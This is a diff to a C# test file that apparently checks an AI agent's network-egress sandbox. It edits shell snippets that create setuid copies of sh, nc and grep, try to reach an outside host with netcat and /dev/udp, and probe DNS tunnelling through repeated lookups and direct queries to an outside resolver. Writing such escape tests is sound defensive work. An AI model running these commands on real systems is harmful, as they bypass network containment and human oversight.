@@ -28,7 +28,10 @@ public sealed class EscapeTests(EgressSessions sessions)
         await session.ShellAsync("""
             for user in root discobot-proxy; do
                 mkdir -p /as/$user
-                for program in grep nc sh; do ! command -v $program || { cp -L "$(command -v $program)" /as/$user/$program; chown $user /as/$user/$program; chmod 4755 /as/$user/$program; }; done
+                for program in grep nc sh; do
+                    for place in /usr/bin /bin; do [ ! -x $place/$program ] || cp -L $place/$program /as/$user/$program; done
+                    [ ! -e /as/$user/$program ] || { chown $user /as/$user/$program; chmod 4755 /as/$user/$program; }
+                done
             done
             """);
         string Try(string user) => $"/as/{user}/grep ^Uid: /proc/self/status; {{ /as/{user}/nc -w 1 {Outside.Elsewhere} 22; echo probe | /as/{user}/nc -u -w 1 {Outside.Elsewhere} 22; }} </dev/null >/dev/null 2>&1; /as/{user}/sh -c 'grep ^Uid: /proc/self/status; echo > /dev/udp/{Outside.Elsewhere}/22' 2>/dev/null;";
@@ -47,7 +50,7 @@ public sealed class EscapeTests(EgressSessions sessions)
         var session = await sessions.OfAsync(distro);
         var said = await EgressSessions.AsAgentAsync(session, $$"""
             i=0; while [ $i -lt 200 ]; do
-                timeout 2 nslookup data-$i.tunnel.test >/dev/null 2>&1 || timeout 2 getent hosts data-$i.tunnel.test || i=$i
+                timeout 2 nslookup data-$i.tunnel.test >/dev/null 2>&1 || timeout 2 getent hosts data-$i.tunnel.test 2>/dev/null || i=$i
                 i=$((i + 1))
             done
             { nslookup data.tunnel.test {{sessions.Outside.Address}}; nslookup -type=txt data.tunnel.test; nslookup data.tunnel.test 127.0.0.11; } >/dev/null 2>&1
